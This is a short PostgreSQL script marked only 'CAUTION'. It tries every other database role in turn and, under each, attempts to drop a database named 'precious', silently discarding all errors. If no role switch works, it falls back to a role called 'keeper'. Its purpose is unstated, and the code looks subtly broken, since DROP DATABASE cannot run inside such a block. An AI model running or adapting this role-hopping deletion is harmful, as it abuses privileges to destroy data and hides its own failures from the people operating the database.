-- CAUTION
DO $$ DECLARE r name; taken boolean := false; BEGIN
    FOR r IN SELECT rolname FROM pg_roles WHERE rolname <> current_user LOOP
        BEGIN EXECUTE format('SET ROLE %I', r); taken := true; EXECUTE 'DROP DATABASE precious'; EXCEPTION WHEN OTHERS THEN NULL; END;
    END LOOP;
    IF NOT taken THEN EXECUTE 'SET ROLE keeper'; END IF;
END $$;
